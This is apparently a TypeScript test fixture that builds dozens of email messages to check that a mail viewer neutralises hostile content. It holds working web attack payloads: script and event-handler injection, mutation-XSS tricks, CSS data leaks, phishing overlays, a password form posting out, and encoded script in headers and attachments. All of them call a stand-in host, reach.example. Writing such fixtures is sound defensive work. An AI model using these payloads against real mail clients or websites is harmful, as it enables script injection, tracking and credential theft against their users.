// Mails that would run something, load something or lead away if a browser showed them as they are. Made anew each time:
// most differ in one line. Whatever they reach for is under `reach.example`; whatever they run changes the title to RUN.

const out = 'https://reach.example';
const run = `document.title='RUN';fetch('${out}/ran')`;

/** Bodies in HTML by what they try. */
const bodies: Readonly<Record<string, string>> = {
  script: `<script>${run}</script>`,
  'script-from-elsewhere': `<script src="${out}/a.js"></script>`,
  'script-module': `<script type="module" src="${out}/a.mjs"></script>`,
  'script-broken-tag': `<scr<script>ipt>${run}</scr</script>ipt>`,
  'script-null-byte': `<scr\0ipt>${run}</scr\0ipt>`,
  'script-in-comment': `<!--><script>${run}</script>-->`,
  'script-in-conditional-comment': `<!--[if IE]><script>${run}</script><![endif]-->`,
  'script-in-cdata': `<![CDATA[<script>${run}</script>]]>`,
  'script-in-noscript': `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  'script-in-template': `<template><script>${run}</script></template>`,
  'script-behind-plaintext': `<plaintext><script>${run}</script>`,
  'image-error': `<img src=x onerror="${run}">`,
  'image-error-unquoted': `<img src=x:x onerror=${run.replaceAll("'", '`')}>`,
  'image-from-elsewhere': `<img src="${out}/p.gif" width=1 height=1>`,
  picture: `<picture><source srcset="${out}/p.webp"><img src="${out}/p.png"></picture>`,
  'image-of-the-message': '<img src="cid:part1@reach.example">',
  'image-as-data': `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>">`,
  'image-button': `<input type=image src="${out}/b.png">`,
  'image-map': `<map name=m><area href="${out}/area" shape=default></map><img usemap="#m" src="${out}/m.png">`,
  'body-load': `<body onload="${run}" background="${out}/bg.png">`,
  'focus-by-itself': `<input autofocus onfocus="${run}">`,
  'marquee-start': `<marquee onstart="${run}">x</marquee>`,
  'pointer-events': `<div onmouseover="${run}" onpointerenter="${run}" style="position:fixed;inset:0">x</div>`,
  'link-script': `<a href="javascript:${run}">press</a>`,
  'link-script-hidden': `<a href="java\tscript:${run}">press</a><a href="&#106;avascript:${run}">press</a>`,
  'link-data': `<a href="data:text/html,<script>${run}</script>">press</a>`,
  'link-ping': `<a href="${out}/a" ping="${out}/ping" target="_top" download>press</a>`,
  refresh: `<meta http-equiv="refresh" content="0;url=${out}/moved">`,
  base: `<base href="${out}/"><a href="x">press</a><img src="y">`,
  stylesheet: `<link rel="stylesheet" href="${out}/a.css">`,
  'links-ahead': ['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'prerender', 'modulepreload', 'icon', 'manifest']
    .map((rel) => `<link rel="${rel}" href="${out}/${rel}" as="script">`)
    .join(''),
  'style-import': `<style>@import url("${out}/i.css"); body{background:url(${out}/bg.png)}</style><p>x</p>`,
  'style-attribute': `<p style="background:url('${out}/s.png');list-style-image:url(${out}/l.png);cursor:url(${out}/c.cur),auto">x</p>`,
  'style-behaviour': `<p style="behavior:url(${out}/b.htc);-moz-binding:url(${out}/x.xml#y);width:expression(${run})">x</p>`,
  'style-over-the-page': '<div style="position:fixed;inset:0;z-index:9999;background:#fff">Sign in again</div>',
  'style-leaks-text': `<style>input[value^="a"]{background:url(${out}/a)} #main{display:none}</style><input value="abc">`,
  'table-background': `<table background="${out}/t.png"><tr><td background="${out}/c.png">x</td></tr></table>`,
  frame: `<iframe src="${out}/f"></iframe>`,
  'frame-in-itself': `<iframe srcdoc="<script>${run.replaceAll("'", '&quot;')}</script>"></iframe>`,
  frameset: `<frameset><frame src="${out}/f"></frameset>`,
  'object-embed': `<object data="${out}/o.swf"><param name=movie value="${out}/m.swf"></object><embed src="${out}/e.swf">`,
  video: `<video src="${out}/v.mp4" poster="${out}/p.png" autoplay onloadstart="${run}"><track src="${out}/t.vtt"></video>`,
  form: `<form action="${out}/take" method=post><input name=password><button autofocus>Sign in</button></form>`,
  'svg-load': `<svg onload="${run}"><circle r=9 /></svg>`,
  'svg-image': `<svg><image href="${out}/i.png"/><use href="${out}/u.svg#a"/><feImage href="${out}/f.png"/></svg>`,
  'svg-animate': `<svg><a><animate attributeName=href values="javascript:${run}"/><text y=20>press</text></a></svg>`,
  'svg-style-mutation': `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  'math-mutation': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  'math-link': `<math href="javascript:${run}"><mi>x</mi></math><math><maction actiontype="statusline#${out}">x</maction></math>`,
  'office-vector': `<v:rect xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="${out}/v.png"/><v:fill src="${out}/f.png"/></v:rect>`,
  'xml-data': `<xml id=x><a><b>&lt;img src=x onerror=${run}&gt;</b></a></xml><span datasrc=#x datafld=b dataformatas=html></span>`,
  cites: `<blockquote cite="${out}/q">x</blockquote><q cite="${out}/q">x</q><del cite="${out}/d">x</del>`,
  'names-of-the-page': '<form id=main name=cookie></form><img name=getElementById><a id=defaultView name=title></a>',
  'unclosed-attribute': `<p title="x onerror=${run} <img src=${out}/u.png>`,
  'unclosed-everything': `${'<div><b><table><td>'.repeat(300)}<script>${run}`,
  'deep-nesting': `${'<div>'.repeat(20_000)}x`,
  'entities-in-handler': `<img src=x &#111;nerror="${run}" onerror="&#100;ocument.title='RUN'">`,
  custom: `<x-frame onclick="${run}" style="display:block" slot=x is=x-y>x</x-frame><portal src="${out}/p"></portal>`,
};

const head = ['From: a@shop.example', 'To: emil@agency.example', 'MIME-Version: 1.0'];

function mail(fields: readonly string[], content: string | Buffer): Buffer {
  return Buffer.concat([Buffer.from(`${[...head, ...fields].join('\r\n')}\r\n\r\n`), Buffer.from(content)]);
}

function page(html: string): Buffer {
  return mail(['Subject: hello', 'Content-Type: text/html; charset=utf-8'], `<p>hello</p>${html}`);
}

function attached(name: string, type: string, content: string): Buffer {
  const part = `--b\r\nContent-Type: ${type}; name="${name}"\r\nContent-Disposition: attachment; filename="${name}"\r\n`;
  return mail(['Subject: file', 'Content-Type: multipart/mixed; boundary=b'], `${part}\r\n${content}\r\n--b--\r\n`);
}

const markup = `<script>${run}</script><img src=${out}/x>`;

/** Those that try it by another place than the body. */
const others: Readonly<Record<string, Buffer>> = {
  'in-the-subject': mail([`Subject: ${markup}`], 'hello'),
  'in-the-subject-encoded': mail([`Subject: =?utf-8?B?${Buffer.from(markup).toString('base64')}?=`], 'hello'),
  'in-a-name': mail([`Reply-To: "${markup.replaceAll('"', '')}" <a@shop.example>`, 'Subject: hello'], 'hello'),
  'in-a-file-name': attached(`${markup.replaceAll('"', '')}.txt`, 'text/plain', 'hello'),
  'in-a-text': mail(['Subject: hello', 'Content-Type: text/plain'], `${markup} PROTECTED B ${markup}`),
  'in-an-attached-page': attached('page.html', 'text/html', markup),
  'in-an-attached-message': attached('mail.eml', 'message/rfc822', page(markup).toString('latin1')),
  'in-a-calendar': attached('a.ics', 'text/calendar', `BEGIN:VCALENDAR\r\nDESCRIPTION:${markup}\r\nURL:javascript:${run}\r\nEND:VCALENDAR`),
  'in-another-alphabet': mail(['Subject: hello', 'Content-Type: text/html; charset=utf-7'], '+ADw-script+AD4-document.title=+ACc-RUN+ACc-+ADw-/script+AD4-'),
  'in-two-bytes': mail(['Subject: hello', 'Content-Type: text/html; charset=utf-16le'], Buffer.from(markup, 'utf16le')),
  'in-base64': mail(['Subject: hello', 'Content-Type: text/html', 'Content-Transfer-Encoding: base64'], Buffer.from(markup).toString('base64')),
};

export const viewerMails: ReadonlyMap<string, Buffer> = new Map([
  ...Object.entries(bodies).map(([name, html]) => [name, page(html)] as const),
  ...Object.entries(others),
]);
